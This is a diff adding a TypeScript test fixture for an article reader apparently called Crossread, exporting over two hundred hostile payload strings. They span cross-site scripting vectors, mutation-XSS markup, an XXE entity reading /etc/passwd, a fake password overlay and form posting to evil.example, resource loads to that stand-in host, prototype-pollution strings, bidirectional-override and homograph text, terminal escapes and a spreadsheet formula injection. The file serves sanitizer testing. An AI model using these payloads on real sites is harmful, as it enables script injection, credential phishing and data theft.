@@ -1,0 +1,193 @@
+/** What the payloads would do if one of them were ever more than words: leave a mark in the page, and ask somebody for something. */
+const RUN = 'window.stolen=1'
+const ELSEWHERE = 'https://evil.example/x'
+
+const SCRIPTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt >${RUN}</sCrIpT >`,
+  `<script src="${ELSEWHERE}.js"></script>`,
+  `<script type="module">import "${ELSEWHERE}.js"</script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<script>alert(1);${RUN}`,
+  `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${RUN}>"}</script>`,
+  `<script type="importmap">{"imports":{"react":"${ELSEWHERE}.js"}}</script>`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}"]}]}</script>`,
+]
+
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'onbegin',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerrawupdate',
+  'onbeforeinput',
+]
+const ELEMENTS = [
+  ['img', 'src=x'],
+  ['svg', ''],
+  ['body', ''],
+  ['details open', ''],
+  ['input autofocus', ''],
+  ['video', 'src=x'],
+  ['marquee', ''],
+]
+const HANDLERS = ELEMENTS.flatMap(([element = '', attributes = '']) =>
+  EVENTS.map((event) => `<${element} ${attributes} ${event}="${RUN}">words</${element.split(' ')[0] ?? ''}>`),
+)
+
+const DRAWN = [
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${ELSEWHERE}.js"/></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
+  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y="20">words</text></a></svg>`,
+  `<svg><foreignObject><body onload="${RUN}"></body></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><image href="${ELSEWHERE}.svg"/></svg>`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">words</maction></math>`,
+  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
+]
+
+const STYLES = [
+  '<style>*{display:none!important}</style>',
+  `<style>@import "${ELSEWHERE}.css";</style>`,
+  `<style>body{background:url(${ELSEWHERE}.png)}</style>`,
+  `<style>@font-face{font-family:x;src:url(${ELSEWHERE}.woff2)}*{font-family:x}</style>`,
+  `<link rel="stylesheet" href="${ELSEWHERE}.css">`,
+  `<link rel="preload" as="script" href="${ELSEWHERE}.js">`,
+  `<link rel="dns-prefetch" href="//evil.example">`,
+  `<link rel="prerender" href="${ELSEWHERE}">`,
+  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your library is damaged. Enter your password.</div>',
+  `<div style="background:url('${ELSEWHERE}')">words</div>`,
+  `<p style="width:expression(${RUN})">words</p>`,
+  `<xss style="behavior:url(${ELSEWHERE}.htc)">words</xss>`,
+]
+
+const ADDRESSES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  '&#106;avascript:',
+  'javascript://%0a',
+  'vbscript:',
+  'data:text/html,<script>',
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuc3RvbGVuPTE8L3NjcmlwdD4=',
+  'blob:app://crossread/',
+  'file:///etc/passwd#',
+  'app://crossread/../../etc/passwd#',
+  '\\\\evil.example\\share\\',
+  'smb://evil.example/',
+  'ms-msdt:/id%20PCWDiagnostic',
+  'https://evil.example@crossread/',
+].flatMap((address) => [`<a href="${address}${RUN}">words</a>`, `[words](${address}${RUN})`])
+
+const PAGES = [
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
+  '<base href="https://evil.example/">',
+  `<base target="_blank"><a href="x">words</a>`,
+  `<iframe src="${ELSEWHERE}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<object data="${ELSEWHERE}.swf"></object>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="${ELSEWHERE}.swf">`,
+  `<applet code="${ELSEWHERE}.class"></applet>`,
+  `<form action="${ELSEWHERE}"><input name="password"><button>Sign in</button></form>`,
+  `<form id="x"></form><button form="x" formaction="javascript:${RUN}">words</button>`,
+  `<isindex action="javascript:${RUN}" type="image">`,
+  `<portal src="${ELSEWHERE}"></portal><webview src="${ELSEWHERE}"></webview>`,
+  `<img src="${ELSEWHERE}.png" srcset="${ELSEWHERE}-2.png 2x">`,
+  `<picture><source srcset="${ELSEWHERE}.webp"><img src="${ELSEWHERE}.png"></picture>`,
+  `<video autoplay poster="${ELSEWHERE}.png"><source src="${ELSEWHERE}.mp4"></video>`,
+  `<audio autoplay src="${ELSEWHERE}.mp3"></audio>`,
+  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}" download>words</a>`,
+  `<table background="${ELSEWHERE}.png"><tr><td>words</td></tr></table>`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode="open"><style>:host{display:none}</style></template>`,
+  `<dialog open>Restart Crossread</dialog>`,
+  `<div popover id="p">words</div><button popovertarget="p">words</button>`,
+  `<slot onslotchange="${RUN}">words</slot>`,
+  `<img name="getElementById"><form name="body"><input name="crossread"></form>`,
+  `<a id="crossread"></a><a id="crossread" name="saveSettings">words</a>`,
+]
+
+/** Markup that is something else once it has been read and written again. */
+const MUTATING = [
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<title><p title="</title><svg/onload=${RUN}>">`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `]]><script>${RUN}</script><![CDATA[`,
+  `<select><template><img src=x onerror=${RUN}></template></select>`,
+  `<img src="a\`b" onerror=${RUN} x="">`,
+  `<a/href="j&Tab;avascript:${RUN}">words</a>`,
+  `<p/onclick=${RUN}//`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
+  `\ufeff<script>${RUN}</script>`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}} #{${RUN}} <%= ${RUN} %>`,
+  `__proto__[stolen]=1&constructor.prototype.stolen=1`,
+  `"}],"__proto__":{"stolen":1},"x":[{"y":"`,
+]
+
+/** Characters that change what stands around them, or that look like others. */
+const CHARACTERS = [
+  'paid \u202e000,1\u202c to the minister',
+  '\u202eunclosed override, and what comes after it',
+  '\u202dunclosed left override',
+  '\u2067an isolate that nobody closes',
+  '\u2066\u202b\u202a\u202e\u2067 five that nobody closes',
+  'closed too often \u202c\u2069\u202c\u2069\u202c\u2069',
+  'a name\u200f\u061c\u200e with marks of direction',
+  'report\u202ecod.exe',
+  'https://\u0430pple.example/ and https://аррӏе.example/',
+  'https://xn--pple-43d.example/',
+  'https://evil.example\u2215@bank.example/',
+  'https://bank.example\u200b.evil.example/',
+  'cros\u200bs\u200cr\u200dea\u2060d',
+  '\u00ad\u034f\u115f\u1160\u17b4\u3164\uffa0 blank letters',
+  '\ufff9hidden\ufffaannotation\ufffb',
+  '\udb40\udc01\udb40\udc48\udb40\udc49 tagged letters',
+  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J',
+  '\u001b]8;;https://evil.example\u0007a link of a terminal\u001b]8;;\u0007',
+  'back\u0008\u0008\u0008\u0008forth',
+  'over\rwritten',
+  '\ud800 half a letter, and the other half \udfff',
+  `Z${'\u0335\u0336\u0337\u0338\u0301\u0316'.repeat(40)}algo`,
+  '﷽'.repeat(20),
+  'ﷺ\u200d'.repeat(20),
+  '\u2028\u2029\u0085 lines that are none',
+  '=HYPERLINK("https://evil.example","words") @SUM(1) -1+1|cmd',
+]
+
+/** Payloads of a hostile article: over two hundred, each by itself. */
+export const PAYLOADS: readonly string[] = [
+  ...SCRIPTS,
+  ...HANDLERS,
+  ...DRAWN,
+  ...STYLES,
+  ...ADDRESSES,
+  ...PAGES,
+  ...MUTATING,
+  ...CHARACTERS,
+]
